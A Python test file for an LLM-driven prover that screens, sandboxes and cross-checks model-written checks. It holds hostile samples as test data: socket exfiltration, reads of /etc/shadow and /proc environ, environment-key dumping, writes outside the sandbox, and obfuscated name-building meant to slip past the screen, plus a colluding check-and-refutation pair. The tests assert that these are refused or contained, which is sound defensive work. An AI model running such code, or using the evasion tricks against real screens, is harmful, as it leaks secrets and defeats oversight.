"""The LLM prover against the scripted OpenAI-compatible fake: correct, broken and hostile checks.

The fake replies with a check per option (looked up by the option's text in the request). Correct checks decide
options; broken ones (errors, forged or foreign AssertionErrors, no assert, bad JSON) leave them undecided, never
false; hostile ones (network, writes outside the sandbox, secrets) are refused before they run or contained when
they run, and nothing on the host changes.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from retrieval_pipeline.core.common.types import Case
from retrieval_pipeline.core.services.llm.cache import LLMCache
from retrieval_pipeline.core.services.llm.client import LLMClient, LLMSettings
from retrieval_pipeline.core.services.sandbox.settings import SandboxSettings
from retrieval_pipeline.core.verifier.decompose import decompose
from retrieval_pipeline.core.verifier.proofs.library_index import LibraryIndex
from retrieval_pipeline.core.verifier.proofs.llm_prover import GENERATED_FILE, LLMProver, as_check, located_names, screen_check, wrap_check
from retrieval_pipeline.core.verifier.proofs.provers import OfflineProver
from retrieval_pipeline.core.verifier.questions import NO_ENDPOINT_WARNING, check_questions
from retrieval_pipeline.core.verifier.report import quality_report
from retrieval_pipeline.core.verifier.settings import VerifierSettings
from retrieval_pipeline.core.verifier.verify import verify_question
from retrieval_pipeline_tests.fakes.listener import listener
from retrieval_pipeline_tests.fakes.openai_server import FakeOpenAIServer, message_text

MODEL = "fake-model"
QUESTION = "How does `collections.Counter.most_common` order its result when called with no argument?"
OPTIONS = {
    "A": "From the most common element to the least common.",
    "B": "Alphabetically by element.",
    "C": "In insertion order only.",
    "E": "None of the above",
}
CORRECT = {
    OPTIONS["A"]: """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert counts[0] == ("c", 3), counts
    assert [n for _, n in counts] == sorted((n for _, n in counts), reverse=True), counts
""",
    OPTIONS["B"]: """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert [e for e, _ in counts] == sorted(e for e, _ in counts), counts
""",
    OPTIONS["C"]: """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert [e for e, _ in counts] == ["a", "b", "c"], counts
""",
}
#: The independent refutations of the options above: their assertions hold exactly when the option is false.
REFUTE = {
    OPTIONS["A"]: """
def check():
    from collections import Counter
    counts = [n for _, n in Counter("abbccc").most_common()]
    assert counts != sorted(counts, reverse=True), counts
""",
    OPTIONS["B"]: """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert [e for e, _ in counts] != sorted(e for e, _ in counts), counts
""",
    OPTIONS["C"]: """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert [e for e, _ in counts] != ["a", "b", "c"], counts
""",
}
#: A wrong but plausible check of the true option A: it miscounts, so its own assertion fails.
WRONG_BUT_PLAUSIBLE = """
def check():
    from collections import Counter
    counts = Counter("abbccc").most_common()
    assert counts[0] == ("c", 3), counts
    assert counts[1] == ("b", 3), counts
"""
#: Checks that error, or fail in a way that is no assert of theirs: each must leave its option undecided.
BROKEN = {
    "a NameError": "def check():\n    assert undefined_name == 1\n",
    "a missing module": "def check():\n    import nosuchmodule_xyz\n    assert nosuchmodule_xyz.x\n",
    "a forged AssertionError": "def check():\n    assert True\n    raise AssertionError('forged: the option is false')\n",
    "an assertion inside a library": ("def check():\n    import unittest\n    assert True\n    unittest.TestCase().assertEqual(1, 2)\n"),
    "an async check that errors": "async def check():\n    assert True\n    raise KeyError('inside a coroutine')\n",
}
#: Checks refused before they run (no proof at all).
REFUSED = {
    "no assert": "def check():\n    return 1\n",
    "a syntax error": "def check(:\n    assert True\n",
    "no check()": "assert 1 == 1\n",
}


def reply(code: str) -> str:
    return json.dumps({"test_code": code, "rationale": "scripted"})


def answers_by_option(table: dict[str, str]):
    """The fake's answer function: the option named in the last user message -> its scripted reply (None: unknown).

    A key ``(option, "refutation")`` answers the refutation request; without one, the option's reply answers both.
    """

    def answer(messages):
        task = json.loads(message_text([m for m in messages if m.get("role") == "user"][-1]))
        return table.get((task["option"], task["write"]), table.get(task["option"]))

    return answer


def correct_table() -> dict:
    """Correct checks and correct refutations of options A-C."""
    return {text: reply(code) for text, code in CORRECT.items()} | {(text, "refutation"): reply(code) for text, code in REFUTE.items()}


@contextmanager
def llm_client(table: dict[str, str], tmp_path: Path, **settings) -> Iterator[tuple[LLMClient, FakeOpenAIServer]]:
    with FakeOpenAIServer(answers_by_option(table), model=MODEL) as server:
        options = {"max_retries": 0, "json_retries": 1, "timeout_s": 10.0, **settings}
        with LLMClient(LLMSettings(base_url=server.base_url, model=MODEL, **options), LLMCache(tmp_path / "llm.sqlite")) as client:
            yield client, server


def verify(options: dict[str, str], marked: str, client: LLMClient, settings: SandboxSettings, question: str = QUESTION, **kwargs):
    prover = LLMProver(client, **kwargs)
    return verify_question("c", question, options, marked, OfflineProver(), settings, fallback=prover)


# --------------------------------------------------------------------------------------------------
# Screening and wrapping (no sandbox)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("def check():\n    import socket\n    assert socket\n", "imports socket"),
        ("def check():\n    from urllib.request import urlopen\n    assert urlopen\n", "imports urllib.request"),
        ("def check():\n    import os\n    assert os.environ\n", "environ"),
        ("def check():\n    import os\n    assert os.system('id') == 0\n", "calls os.system"),
        ("def check():\n    assert open('/etc/shadow').read()\n", "shadow"),
        ("def check():\n    assert open('option.evidence.json', 'w')\n", "evidence"),
        ("def check():\n    _false('forged')\n    assert True\n", "_false"),
        ("def check():\n    assert eval('1')\n", "calls eval"),
        ("def check():\n    import sys\n    sys.exit(1)\n    assert True\n", "sys.exit"),
        (REFUSED["no assert"], "no assert statement"),
        (REFUSED["a syntax error"], "does not parse"),
        (REFUSED["no check()"], "defines no top-level check()"),
    ],
)
def test_screen_refuses_what_must_not_run(source, why):
    problem = screen_check(source)
    assert problem is not None and why in problem, problem


def test_screen_lets_an_ordinary_check_run_and_the_wrapper_compiles():
    assert screen_check(CORRECT[OPTIONS["A"]]) is None
    claim = decompose("c", QUESTION, {"A": OPTIONS["A"]})[0]
    source = wrap_check(claim, CORRECT[OPTIONS["A"]], f"llm:{MODEL}")
    compile(source, "test_option_A.py", "exec")
    assert source.isascii() and GENERATED_FILE in source and "def test_option_A" in source


def script(check: str) -> str:
    """A check's body as a script at top level, as a small model writes it (no ``def check():``)."""
    return "\n".join(line[4:] for line in check.strip().splitlines()[1:]) + "\n"


def test_a_script_that_asserts_at_top_level_becomes_check_and_nothing_else_is_rewritten():
    wrapped = as_check('import json\ntext = """a\n  b"""\nassert json.loads("[1]") == [1], text\n')
    assert wrapped.startswith("def check():\n") and screen_check(wrapped) is None
    namespace: dict = {}
    exec(compile(wrapped, "generated.py", "exec"), namespace)  # noqa: S102 - the test's own literal
    namespace["check"]()  # the multi-line string keeps its exact text: the assertion holds
    assert "'a\\n  b'" in wrapped
    for unchanged in (CORRECT[OPTIONS["A"]], "x = 1\n", "def check(:\n", "import os\n"):
        assert as_check(unchanged) == unchanged


@pytest.mark.parametrize(
    "test",
    ["Plugin is not None", "m.Plugin", "callable(Plugin)", "hasattr(m, 'Plugin')", "isinstance(Plugin, type)", "m.P and P is not None"],
)
def test_a_check_that_only_asserts_existence_is_refused(test):
    assert "only asserts that names exist" in str(screen_check(f"def check():\n    assert {test}\n    assert Plugin\n"))
    substantive = f"def check():\n    assert {test}\n    assert Plugin().name == 'plugin'\n"
    assert screen_check(substantive) is None


def test_the_prompt_says_where_the_library_defines_the_names_it_uses(tmp_path):
    index = LibraryIndex(
        import_name="google.adk",
        distribution="google-adk",
        version="2.13.0",
        python_version="3.11",
        python="python",
        names={
            "RunConfig": ["google.adk.agents.run_config.RunConfig", "google.adk.agents.RunConfig"],
            "Runner": ["google.adk.runners.Runner"],
        },
    )
    question = "With `runner.run_async()`, what does `RunConfig.speech_config` control?"
    assert located_names(question + "\nAgent name. Nothing.", index) == {
        "runner": "google.adk.runners.Runner",  # an instance written in backticks: its class
        "RunConfig": "google.adk.agents.RunConfig",  # the shortest public path; Agent and Nothing are not defined
    }
    claim = decompose("c", question, {"A": "Agent name."})[0]
    with LLMClient(LLMSettings(base_url="http://127.0.0.1:9/v1", model=MODEL), LLMCache(tmp_path / "llm.sqlite")) as client:
        located = json.loads(LLMProver(client, index=index).messages(claim)[-1]["content"])["where_the_library_defines"]
        assert located == {"runner": "google.adk.runners.Runner", "RunConfig": "google.adk.agents.RunConfig"}
        assert "where_the_library_defines" not in json.loads(LLMProver(client).messages(claim)[-1]["content"])


# --------------------------------------------------------------------------------------------------
# Correct checks decide


def test_correct_checks_never_decide_alone_and_the_option_records_the_llm(sandbox, tmp_path):
    """One model writes both the check and the refutation: they are not independent, so its checks alone make no option
    true (A: consistent) and, with no option proven true otherwise, its agreeing "false" pairs decide nothing either."""
    table = correct_table()
    with llm_client(table, tmp_path) as (client, server):
        verdict = verify(OPTIONS, "A", client, sandbox, library="the Python standard library")
        states = {e.letter: (e.state, e.decided_by) for e in verdict.evidence}
        assert states == {
            "A": ("consistent", f"llm:{MODEL}"),
            "B": ("undecided", None),
            "C": ("undecided", None),
            "E": ("undecided", None),
        }, [e.note for e in verdict.evidence]
        assert "a model's check alone makes no option true" in verdict.evidence[0].note
        assert verdict.verdict == "Unverifiable"
        asked = server.chat_count
        assert asked == 6  # a check and a refutation for A-C (the offline prover had no proof); E is derived, never asked
        # the marked answer and the other options never reach the LLM
        for request in server.requests:
            task = json.loads(message_text(request.messages[-1]))
            assert set(task) == {"library", "import_name", "question", "option", "what_the_option_claims", "write"}
        again = verify(OPTIONS, "A", client, sandbox)  # the same requests: answered from the cache
        assert server.chat_count == asked and client.stats.cache_hits == 6
        assert {e.letter: e.state for e in again.evidence} == {k: v[0] for k, v in states.items()}


def test_offline_decisions_stand_and_the_llm_is_asked_only_about_the_rest(sandbox, tmp_path):
    options = {"A": "from collections import Counter", "B": OPTIONS["B"]}
    table = {OPTIONS["B"]: reply(CORRECT[OPTIONS["B"]]), (OPTIONS["B"], "refutation"): reply(REFUTE[OPTIONS["B"]])}
    table[options["A"]] = reply("def check():\n    assert False, 'never asked'\n")
    with llm_client(table, tmp_path) as (client, server):
        verdict = verify(options, "A", client, sandbox, question="Which import gives you `Counter`?")
        decided = {e.letter: (e.state, e.decided_by) for e in verdict.evidence}
        assert decided == {"A": ("true", "offline"), "B": ("false", f"llm:{MODEL}")}
        assert server.chat_count == 2 and verdict.verdict == "Valid"


# --------------------------------------------------------------------------------------------------
# Broken checks decide nothing


def test_broken_checks_leave_the_option_undecided_never_false(sandbox, tmp_path):
    options = {chr(ord("A") + i): f"It works ({name})." for i, name in enumerate([*BROKEN, *REFUSED, "bad JSON"])}
    codes = [*BROKEN.values(), *REFUSED.values()]
    table = {text: reply(code) for text, code in zip(options.values(), codes)}
    table[options[chr(ord("A") + len(codes))]] = "Sure! Here is a test: def check(): assert True"  # not JSON, every time
    with llm_client(table, tmp_path) as (client, _):
        verdict = verify(options, "A", client, sandbox)
    for evidence in verdict.evidence:
        assert evidence.state == "undecided", (evidence.claim.option_text, evidence.note)
        assert evidence.decided_by is None
    notes = {e.claim.option_text: e.note for e in verdict.evidence}
    assert "errored (NameError" in notes["It works (a NameError)."]
    assert "no assert statement of the generated code" in notes["It works (a forged AssertionError)."]
    assert "no assert statement of the generated code" in notes["It works (an assertion inside a library)."]
    assert "errored (KeyError" in notes["It works (an async check that errors)."]
    assert "was refused: check() has no assert" in notes["It works (no assert)."]
    assert "gave no usable check" in notes["It works (bad JSON)."]
    assert verdict.verdict == "Unverifiable"


def test_a_wrong_but_plausible_check_cannot_make_a_true_option_false(sandbox, tmp_path):
    table = correct_table() | {OPTIONS["A"]: reply(WRONG_BUT_PLAUSIBLE)}
    with llm_client(table, tmp_path) as (client, _):
        alone = verify(OPTIONS, "A", client, sandbox, refute=False)
        guarded = verify(OPTIONS, "A", client, sandbox)
    # one check deciding alone: the miscount finds the true marked answer false; only because no option of the
    # question is true does that result give way (else a false Incorrect verdict)
    lone = {e.letter: e for e in alone.evidence}["A"]
    assert lone.state == "undecided" and "found it false (a generated assertion failed" in lone.note and alone.verdict == "Unverifiable"
    # with the independent refutation the two disagree: A stays undecided; B and C were found false, but with no
    # option of the question true those results give way (a lone "false" decides nothing)
    states = {e.letter: e.state for e in guarded.evidence}
    assert states == {"A": "undecided", "B": "undecided", "C": "undecided", "E": "undecided"}, [e.note for e in guarded.evidence]
    notes = {e.letter: e.note for e in guarded.evidence}
    assert "disagree" in notes["A"] and "('b', 2)" in notes["A"]
    assert "found it false" in notes["B"] and "no option of the question true" in notes["B"]
    assert guarded.verdict == "Unverifiable"


def test_scripts_decide_like_checks_and_a_wrong_script_is_still_caught(sandbox, tmp_path):
    """Top-level scripts (a small model's habit) are proven as check(); the guard treats them like any other check."""
    scripts = {key: reply(script(json.loads(value)["test_code"])) for key, value in correct_table().items()}
    wrong = scripts | {OPTIONS["A"]: reply(script(WRONG_BUT_PLAUSIBLE))}
    with llm_client(scripts, tmp_path) as (client, _):
        decided = verify({k: OPTIONS[k] for k in "AB"}, "A", client, sandbox)
    with llm_client(wrong, tmp_path / "wrong") as (client, _):
        caught = verify({k: OPTIONS[k] for k in "AB"}, "A", client, sandbox)
    assert {e.letter: e.state for e in decided.evidence} == {"A": "consistent", "B": "undecided"}  # held, as a check's would
    assert "the check held and the independent refutation failed" in decided.evidence[0].note
    evidence = {e.letter: e for e in caught.evidence}
    assert evidence["A"].state == "undecided" and "disagree" in evidence["A"].note
    assert evidence["B"].state == "undecided" and "no option of the question true" in evidence["B"].note
    assert caught.verdict == "Unverifiable"


def test_a_refutation_that_only_says_the_class_exists_cannot_agree_with_a_wrong_check(sandbox, tmp_path):
    """What a 1.5B model wrote on a real question: a check with a wrong expected value, a refutation that holds anyway."""
    vacuous = "def check():\n    from collections import Counter\n    assert Counter is not None, 'Counter exists'\n"
    table = correct_table() | {OPTIONS["A"]: reply(WRONG_BUT_PLAUSIBLE), (OPTIONS["A"], "refutation"): reply(vacuous)}
    with llm_client(table, tmp_path) as (client, _):
        verdict = verify({k: OPTIONS[k] for k in "AB"}, "A", client, sandbox)
    a = {e.letter: e for e in verdict.evidence}["A"]
    assert a.state == "undecided" and "refutation was refused: check() only asserts that names exist" in a.note
    assert verdict.verdict != "Incorrect"


def test_the_check_and_the_refutation_decide_only_together(sandbox, tmp_path):
    agreeing_false = {OPTIONS["B"]: reply(CORRECT[OPTIONS["B"]]), (OPTIONS["B"], "refutation"): reply(REFUTE[OPTIONS["B"]])}
    refutation_errors = {OPTIONS["C"]: reply(CORRECT[OPTIONS["C"]]), (OPTIONS["C"], "refutation"): reply(BROKEN["a NameError"])}
    refutation_refused = {OPTIONS["A"]: reply(CORRECT[OPTIONS["A"]]), (OPTIONS["A"], "refutation"): reply(REFUSED["no assert"])}
    with llm_client(agreeing_false | refutation_errors | refutation_refused, tmp_path) as (client, _):
        verdict = verify(OPTIONS, "A", client, sandbox)
    with llm_client(correct_table(), tmp_path / "correct") as (client, _):
        with_a_true = verify({"A": "from collections import Counter", "B": OPTIONS["B"]}, "A", client, sandbox)
    evidence = {e.letter: e for e in verdict.evidence}
    assert evidence["C"].state == "undecided" and "the refutation: the generated code errored (NameError" in evidence["C"].note
    assert evidence["A"].state == "undecided" and "generated refutation was refused" in evidence["A"].note
    # B's check failed and its refutation held, but no option is true: the lone "false" gives way
    assert evidence["B"].state == "undecided" and "independent refutation held" in evidence["B"].note
    assert "no option of the question true" in evidence["B"].note
    # beside an option the offline prover proved true, the same agreeing pair decides B false
    decided = {e.letter: e for e in with_a_true.evidence}
    assert decided["A"].state == "true" and decided["B"].state == "false" and "independent refutation held" in decided["B"].note


def test_the_budget_caps_the_options_asked(sandbox, tmp_path):
    with llm_client(correct_table(), tmp_path) as (client, server):
        verdict = verify(OPTIONS, "A", client, sandbox, max_calls=1)
    assert server.chat_count == 2  # one option: its check and its refutation
    assert [e.state for e in verdict.evidence].count("undecided") >= 2
    assert any("budget is spent" in e.note for e in verdict.evidence)


# --------------------------------------------------------------------------------------------------
# Hostile checks are refused or contained, and the host does not change


def test_hostile_checks_are_refused_or_contained(sandbox, tmp_path, project_root, monkeypatch):
    secret = f"s3cr3t-{time.monotonic_ns()}"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    monkeypatch.setenv("RP_LLM_PROVER_SECRET", secret)
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(secret)
    host_dir = Path(tempfile.mkdtemp(prefix="rp_llm_hostile_"))
    marker = f"rp_llm_hostile_{os.getpid()}_{time.monotonic_ns()}"
    targets = [host_dir / marker, project_root / marker, Path("/etc") / marker]
    with listener() as (port, accepted):
        hostile = {
            "network, plainly": f"def check():\n    import socket\n    socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            "    assert True\n",
            "network, evasively": "def check():\n    import importlib as il\n    net = il.import_module('soc' + 'ket')\n"
            f"    net.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n    assert True\n",
            "writes outside": f"def check():\n    for path in {[str(t) for t in targets]!r}:\n"
            "        with open(path, 'w') as handle:\n            handle.write('escaped')\n    assert True\n",
            "secrets, plainly": "def check():\n    import os\n    assert 'API_KEY' in os.environ\n",
            "secrets, evasively": "def check():\n    import os as o\n    env = getattr(o, 'envi' + 'ron')\n    print(dict(env))\n"
            "    assert any('API_KEY' in k or 'SECRET' in k for k in env), sorted(env)\n",
            "a secret file": f"def check():\n    print(open({str(secret_file)!r}).read())\n    assert True\n",
        }
        options = {chr(ord("A") + i): f"It is safe ({name})." for i, name in enumerate(hostile)}
        table = {options[chr(ord("A") + i)]: reply(code) for i, code in enumerate(hostile.values())}
        with llm_client(table, tmp_path) as (client, _):
            verdict = verify(options, "A", client, sandbox)
        time.sleep(0.3)
        assert accepted == [], "a generated check reached the host's listener"
    try:
        for target in targets:
            assert not target.exists(), f"a generated check wrote {target}"
    finally:
        for target in targets:
            if target.exists():
                target.unlink()
        host_dir.rmdir()
    by_name = {name: e for name, e in zip(hostile, verdict.evidence)}
    for name in ("network, plainly", "secrets, plainly", "network, evasively", "secrets, evasively"):
        assert by_name[name].proof_status != "proof" and "was refused" in by_name[name].note  # never ran ('soc' + 'ket')
    for name in ("writes outside", "a secret file"):
        assert by_name[name].state == "undecided" and "errored" in by_name[name].note, by_name[name].note  # contained
    # the sandbox's environment is empty: the hostile assertion fails (a false option), and nothing leaks
    assert by_name["secrets, evasively"].state in ("undecided", "false")
    report = json.dumps(quality_report([verdict], {"suite": "hostile"}), default=str)
    for e in verdict.evidence:
        assert secret not in e.stdout + e.stderr + e.note + json.dumps(e.record)
    assert secret not in report and secret_file.read_text() == secret


# --------------------------------------------------------------------------------------------------
# Selected by config only when an endpoint is configured


def mc(case_id: str, question: str, options: dict[str, str], answer: str) -> Case:
    return Case(case_id, "mc", "multiple_choice", "mc.yaml", 0, question, options=options, correct_answer=answer,
                explanation="EXPLANATION-TOKEN-THE-LLM-MUST-NOT-SEE")  # fmt: skip


def test_the_llm_prover_runs_only_when_configured_and_an_endpoint_is_given(sandbox, tmp_path):
    cases = [mc("mc:counter", QUESTION, OPTIONS, "A")]
    table = correct_table()
    out = {"report_path": tmp_path / "r" / "quality_report.json", "proposals_path": tmp_path / "r" / "fixes.yaml"}
    with llm_client(table, tmp_path) as (client, server):
        default = check_questions(cases, VerifierSettings(timeout_s=30), dataset="ds", llm=client, **out)
        assert server.chat_count == 0  # offline is the default: a client alone changes nothing
        assert json.loads(default.verdicts.loc[0, "decided_by"])["A"] is None
        llm = VerifierSettings(timeout_s=30).model_copy(update={"prover": "llm"})
        chosen = check_questions(cases, llm, dataset="ds", llm=client, **out)
        assert server.chat_count == 6
        assert all("EXPLANATION-TOKEN" not in json.dumps(r.body) and '"correct_answer"' not in json.dumps(r.body) for r in server.requests)
    assert chosen.verdicts.loc[0, "verdict"] == "Unverifiable"  # the model's checks alone decide no verdict
    assert json.loads(chosen.verdicts.loc[0, "decided_by"]) == {"A": f"llm:{MODEL}", "B": None, "C": None, "E": None}
    report = json.loads(out["report_path"].read_text())
    assert report["meta"]["prover"] == f"offline+llm:{MODEL}" and report["meta"]["llm"]["calls"] == 6
    assert report["cases"][0]["evidence"][0]["decided_by"] == f"llm:{MODEL}"
    no_endpoint = check_questions(cases, llm, dataset="ds", llm=None, **out)
    report = json.loads(out["report_path"].read_text())
    assert report["meta"]["prover_warning"] == NO_ENDPOINT_WARNING and no_endpoint.verdicts.loc[0, "verdict"] == "Unverifiable"
    with pytest.raises(Exception, match="verifier.prover must be offline or llm"):
        check_questions(cases, VerifierSettings().model_copy(update={"prover": "gpt"}), dataset="ds", **out)


# --------------------------------------------------------------------------------------------------
# One hostile model: checks written slightly indirectly, and a check and a refutation written to agree


#: What a hostile model writes to get past a screen of names: each names nothing the screen lists, literally.
INDIRECT = {
    "getattr with a built name": "def check():\n    import os\n    assert getattr(os, 'ki' + 'll')\n",
    "a path built from parts": "def check():\n    assert open('/pr' + 'oc' + '/1/environ', 'rb').read()\n",
    "a joined path": "def check():\n    assert open(''.join(['/pr', 'oc/self/mem']), 'rb')\n",
    "a reversed name": "def check():\n    import os\n    assert getattr(os, 'llik'[::-1])\n",
    "chr": "def check():\n    import os\n    assert getattr(os, chr(107) + 'ill')\n",
    "vars": "def check():\n    import os\n    assert vars(os)['sys' + 'tem']\n",
    "a computed getattr": "def check():\n    import os\n    name = 'kill'\n    assert getattr(os, name)\n",
    "every class": "def check():\n    assert ().__class__.__bases__[0].__subclasses__()\n",
    "a frame's globals": "def check():\n    import sys\n    assert sys._getframe(1).f_globals\n",
    "an f-string of literals": "def check():\n    import os\n    assert getattr(os, f\"{'ki'}ll\")\n",
}


@pytest.mark.parametrize("name", list(INDIRECT))
def test_screen_refuses_checks_that_build_the_names_they_use(name):
    problem = screen_check(INDIRECT[name])
    assert problem is not None, name


def test_the_screen_still_lets_a_check_read_a_literal_attribute():
    assert screen_check("def check():\n    import json\n    assert getattr(json, 'dumps')([1]) == '[1]'\n") is None


def test_a_hostile_model_s_indirect_checks_are_refused_and_decide_nothing(sandbox, tmp_path):
    table = {OPTIONS[k]: reply(INDIRECT[name]) for k, name in zip("ABC", ["getattr with a built name", "a path built from parts", "chr"])}
    with llm_client(table, tmp_path) as (client, _):
        verdict = verify(OPTIONS, "A", client, sandbox)
    assert {e.letter: e.state for e in verdict.evidence} == {k: "undecided" for k in "ABCE"}
    assert all("was refused" in e.note for e in verdict.evidence[:3]), [e.note for e in verdict.evidence]


def test_a_model_that_writes_both_the_check_and_the_refutation_cannot_make_a_nonsense_option_valid(sandbox, tmp_path):
    """The same model answers both requests: it makes the nonsense option's check hold and its refutation fail, and the
    real answers' checks fail and their refutations hold. Its results alone decide no verdict."""
    nonsense = {"A": "It sorts by the phase of the moon.", "B": OPTIONS["A"], "C": OPTIONS["B"]}
    holds, fails = "def check():\n    assert 1 + 1 == 2\n", "def check():\n    assert 1 + 1 == 3\n"
    table = {nonsense["A"]: reply(holds), (nonsense["A"], "refutation"): reply(fails)}
    for k in "BC":
        table |= {nonsense[k]: reply(fails), (nonsense[k], "refutation"): reply(holds)}
    with llm_client(table, tmp_path) as (client, _):
        verdict = verify(nonsense, "A", client, sandbox)
    states = {e.letter: e.state for e in verdict.evidence}
    assert states["A"] == "consistent" and states["B"] == states["C"] == "undecided", [e.note for e in verdict.evidence]
    assert verdict.verdict == "Unverifiable", verdict.reasons
